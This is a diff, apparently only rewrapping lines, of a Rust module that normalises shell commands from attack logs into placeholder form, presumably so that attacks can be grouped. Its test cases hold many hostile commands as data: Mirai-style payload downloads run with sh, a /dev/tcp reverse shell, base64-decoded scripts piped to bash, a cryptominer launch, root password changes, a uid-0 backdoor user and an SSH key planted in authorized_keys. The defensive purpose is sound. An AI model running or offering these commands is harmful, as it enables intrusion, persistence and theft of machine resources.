@@ -1,4 +1,5 @@
-//! Commands without what varies between runs of one attack: addresses, links, keys, passwords, names of dropped files.
+//! Commands without what varies between runs of one attack: addresses, links, keys, passwords, names of
+//! dropped files.
 //!
 //! | placeholder  | stands for |
 //! |--------------|------------|
@@ -13,10 +14,11 @@
 //! | `<random>`   | a name no one would give, and what busybox is asked for and does not have |
 //! | `<n>`        | a number that is a word of its own |
 //!
-//! These stay: case, flags (`-9`, `-n1`), variables and `$4`, modes after `chmod`, numbers of streams (`2>&1`), paths and
-//! names of the system's own (`/proc/cpuinfo`, `~/.ssh/authorized_keys`). White space is one space, a line's end is `␤`,
-//! a placeholder that follows itself is written once, control characters are shown as their pictures. What a name is follows
-//! from its command alone: an attack that fetches `sh` and one that fetches `x` are the same.
+//! These stay: case, flags (`-9`, `-n1`), variables and `$4`, modes after `chmod`, numbers of streams
+//! (`2>&1`), paths and names of the system's own (`/proc/cpuinfo`, `~/.ssh/authorized_keys`). White space is
+//! one space, a line's end is `␤`, a placeholder that follows itself is written once, control characters are
+//! shown as their pictures. What a name is follows from its command alone: an attack that fetches `sh` and
+//! one that fetches `x` are the same.
 //!
 //! **Invariant**: normalising twice is normalising once, for any text, in time linear in its length.
 
@@ -30,7 +32,8 @@ use std::borrow::Cow;
 /// Counts changes of what [`normalise`] gives; kept beside every value derived from it.
 pub const VERSION: i16 = 1;
 
-/// The command with placeholders for what varies between runs of one attack; at most 4 KiB, and `<cut>` where there was more.
+/// The command with placeholders for what varies between runs of one attack; at most 4 KiB, and `<cut>` where
+/// there was more.
 pub fn normalise(command: &str) -> Cow<'_, str> {
     let normal = scan::Scanner::new(command).run();
     if normal == command { Cow::Borrowed(command) } else { Cow::Owned(normal) }
@@ -55,21 +58,34 @@ mod tests {
 
     use super::*;
 
-    const KEY: &str = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7d1Jx0pXw4mQ9vR2sT8uK3nLfYbH6oZ5cGqEiVtWa+DSkM/PrNyUjBhXlOeCz";
+    const KEY: &str =
+        "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7d1Jx0pXw4mQ9vR2sT8uK3nLfYbH6oZ5cGqEiVtWa+DSkM/PrNyUjBhXlOeCz";
 
     /// Each is the first of a kind seen in real logs, with other names.
     const ATTACKS: &[(&str, &str)] = &[
         // Mirai and its children.
         ("/bin/busybox QWERT", "/bin/busybox <random>"),
-        ("/bin/busybox wget http://198.51.100.7:8080/bins/x.arm7 -O /tmp/.x; /bin/busybox ZXCVB", "/bin/busybox wget <url> -O <file>; /bin/busybox <random>"),
+        (
+            "/bin/busybox wget http://198.51.100.7:8080/bins/x.arm7 -O /tmp/.x; /bin/busybox ZXCVB",
+            "/bin/busybox wget <url> -O <file>; /bin/busybox <random>",
+        ),
         ("cat /proc/mounts; /bin/busybox FGHJK", "cat /proc/mounts; /bin/busybox <random>"),
-        ("cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox LKJHG", "cd /dev/shm; cat <file> || cp /bin/echo <file>; /bin/busybox <random>"),
+        (
+            "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox LKJHG",
+            "cd /dev/shm; cat <file> || cp /bin/echo <file>; /bin/busybox <random>",
+        ),
         (
             "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
             "dd bs=<n> count=<n> if=<file> || cat <file> || while read i; do echo $i; done < <file>",
         ),
-        (">/var/run/.a && cd /var/run/; >/tmp/.a && cd /tmp/", "><file> && cd /var/run/; ><file> && cd /tmp/"),
-        (r"echo -ne '\x7f\x45\x4c\x46\x01\x01\x00' > upd; /bin/busybox chmod 777 upd", "echo -ne '<hex>' > <file>; /bin/busybox chmod 777 <file>"),
+        (
+            ">/var/run/.a && cd /var/run/; >/tmp/.a && cd /tmp/",
+            "><file> && cd /var/run/; ><file> && cd /tmp/",
+        ),
+        (
+            r"echo -ne '\x7f\x45\x4c\x46\x01\x01\x00' > upd; /bin/busybox chmod 777 upd",
+            "echo -ne '<hex>' > <file>; /bin/busybox chmod 777 <file>",
+        ),
         (r#"echo -en "\\x31\\x33\\x33\\x37""#, r#"echo -en "<hex>""#),
         (r"echo -ne '\177ELF\001\x00T' >> .d", "echo -ne '<hex>' >> <file>"),
         (r"echo -e '\x47\x72\x6f\x70/tmp' > /tmp/.n", "echo -e '<hex>/tmp' > <file>"),
@@ -79,10 +95,19 @@ mod tests {
             "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/ah; curl -O http://198.51.100.7/ah; chmod 777 ah; sh ah; tftp 198.51.100.7 -c get b.sh; tftp -r .sh -g 198.51.100.7; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 f1.sh f1.sh; rm -rf ah b.sh; rm -rf *",
             "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget <url>; curl -O <url>; chmod 777 <file>; sh <file>; tftp <ip> -c get <file>; tftp -r <file> -g <ip>; ftpget -v -u anonymous -p anonymous -P <n> <ip> <file>; rm -rf <file>; rm -rf *",
         ),
-        ("wget evil.example/x.sh; tftp evil.example -c get x.sh; curl evil.example", "wget <url>; tftp <ip> -c get <file>; curl <url>"),
+        (
+            "wget evil.example/x.sh; tftp evil.example -c get x.sh; curl evil.example",
+            "wget <url>; tftp <ip> -c get <file>; curl <url>",
+        ),
         ("wget 203.0.113.9/a/b || curl 203.0.113.9:81/a?b=c", "wget <url> || curl <url>"),
-        ("chmod +x ./.50771/sshd;nohup ./.50771/sshd 192.0.2.1 192.0.2.2 192.0.2.3 &", "chmod +x <file>;nohup <file> <ip> &"),
-        ("cd /tmp && chmod +x TmqWwR7A && bash -c ./TmqWwR7A", "cd /tmp && chmod +x <file> && bash -c <file>"),
+        (
+            "chmod +x ./.50771/sshd;nohup ./.50771/sshd 192.0.2.1 192.0.2.2 192.0.2.3 &",
+            "chmod +x <file>;nohup <file> <ip> &",
+        ),
+        (
+            "cd /tmp && chmod +x TmqWwR7A && bash -c ./TmqWwR7A",
+            "cd /tmp && chmod +x <file> && bash -c <file>",
+        ),
         ("scp -qt \"/tmp/qwRt81Zb\"", "scp -qt \"<file>\""),
         ("bash -c \"wget -qO- https://x.example/i.sh | sh\"", "bash -c \"wget -qO- <url> | sh\""),
         ("exec 3<>/dev/tcp/192.0.2.8/443", "exec <n><>/dev/tcp/<ip>"),
@@ -90,13 +115,19 @@ mod tests {
             "sleep 15s && echo \"IyEvYmluL3NoCmNkIC90bXAKcm0gLXJmIC5zc2gKd2dldA==\" | base64 --decode | bash",
             "sleep 15s && echo \"<base64>\" | base64 --decode | bash",
         ),
-        ("./xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1 --threads=4", "<file> -o <url> -u wallet --donate-level <n> --threads=<n>"),
+        (
+            "./xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1 --threads=4",
+            "<file> -o <url> -u wallet --donate-level <n> --threads=<n>",
+        ),
         ("pkill -9 xmrig; kill -9 4711; ls /proc/4711/exe", "pkill -9 xmrig; kill -9 <n>; ls /proc/<n>/exe"),
         // Passwords.
         (r#"echo "root:XyZ123abcDEF"|chpasswd|bash"#, "echo <password>|chpasswd|bash"),
         (r#"echo root:hello | sudo chpasswd"#, "echo <password> | sudo chpasswd"),
         (r#"echo -e "old\nnew;|&er\nnewer"|passwd|bash"#, "echo -e <password>|passwd|bash"),
-        (r#"uname -a; printf 'a\na\n' | /usr/bin/passwd root; id"#, "uname -a; printf <password> | /usr/bin/passwd root; id"),
+        (
+            r#"uname -a; printf 'a\na\n' | /usr/bin/passwd root; id"#,
+            "uname -a; printf <password> | /usr/bin/passwd root; id",
+        ),
         ("hunter2'|passwd|bash;", "<password>'|passwd|bash;"),
         (
             "useradd -o -u 0 -p '$1$ab$c' sys; sshpass -p \"a b\" ssh root@192.0.2.4",
@@ -109,14 +140,20 @@ mod tests {
         ("chpasswd <<'E_1'\nroot:pw", "chpasswd <<E_1␤<password>"),
         ("chpasswd < /tmp/users", "chpasswd < <file>"),
         ("yes secret | passwd root", "yes <password> | passwd root"),
-        ("usermod --password=secret root; sshpass -psecret id", "usermod --password=<password> root; sshpass -p<password> id"),
+        (
+            "usermod --password=secret root; sshpass -psecret id",
+            "usermod --password=<password> root; sshpass -p<password> id",
+        ),
         (
             "curl -u admin:secret -T x ftp://192.0.2.1; wget --http-password secret x.example",
             "curl -u <password> -T x <url>; wget --http-password <password> <url>",
         ),
         ("echo hi | mail someone@mail.example; ssh root@192.0.2.1", "echo hi | mail <email>; ssh root@<ip>"),
         ("echo a|'b;c d'|chpasswd", "echo a|'b;c d'|chpasswd"),
-        (r#"echo "admin hunter2" > /tmp/up.txt; rm -rf /tmp/up.txt"#, "echo <password> > <file>; rm -rf <file>"),
+        (
+            r#"echo "admin hunter2" > /tmp/up.txt; rm -rf /tmp/up.txt"#,
+            "echo <password> > <file>; rm -rf <file>",
+        ),
         ("cat /etc/passwd | grep root", "cat /etc/passwd | grep root"),
         // What stays tells attacks apart.
         (
@@ -134,7 +171,10 @@ mod tests {
         ("sed 's/^ *//;s/ *$//' | sha256sum", "sed 's/^ *//;s/ *$//' | sha256sum"),
         ("ls /usr/lib64/ /etc/init.d/.hid3 ~/.aws/credentials", "ls /usr/lib64/ <file> ~/.aws/credentials"),
         // Addresses and forms.
-        ("ping ::1; ping fe80::1%eth0; nc 2001:db8::7 80; date 12:30:45; nc 192.0.2.1:22", "ping <ip>; ping <ip>%eth0; nc <ip> <n>; date <n>:<n>:<n>; nc <ip>"),
+        (
+            "ping ::1; ping fe80::1%eth0; nc 2001:db8::7 80; date 12:30:45; nc 192.0.2.1:22",
+            "ping <ip>; ping <ip>%eth0; nc <ip> <n>; date <n>:<n>:<n>; nc <ip>",
+        ),
         ("echo 7f454c4601 aa:bb deadbeef 0x1f 3.14", "echo <hex> aa:bb deadbeef <n>"),
         ("  ls \t -la\r\n\n id \n", "ls -la␤id"),
         ("a\u{1}b\u{7f}c\u{202e}d", "a␁b␡c\u{fffd}d"),
@@ -151,7 +191,9 @@ mod tests {
 
     #[test]
     fn a_planted_key_is_told_by_its_comment() {
-        let plant = |key: &str, who: &str| normalise(&format!("echo \"ssh-rsa {key}== {who}\">>.ssh/authorized_keys")).into_owned();
+        let plant = |key: &str, who: &str| {
+            normalise(&format!("echo \"ssh-rsa {key}== {who}\">>.ssh/authorized_keys")).into_owned()
+        };
         assert_eq!(plant(KEY, "mdrfckr"), "echo \"ssh-rsa <sshkey> mdrfckr\">>.ssh/authorized_keys");
         assert_ne!(plant(KEY, "mdrfckr"), plant(KEY, "someone"));
     }
@@ -169,7 +211,9 @@ mod tests {
         assert_eq!(normalise(&"é".repeat(5_000)), "<cut>");
         // What follows a `$` decides whether it is a password, and may be what is cut.
         for length in 4_070..4_100 {
-            let normal = normalise(&format!("{}useradd -p $(a", "x;".repeat(length / 2) + &"y".repeat(length % 2))).into_owned();
+            let normal =
+                normalise(&format!("{}useradd -p $(a", "x;".repeat(length / 2) + &"y".repeat(length % 2)))
+                    .into_owned();
             assert_eq!(normalise(&normal), normal);
         }
     }
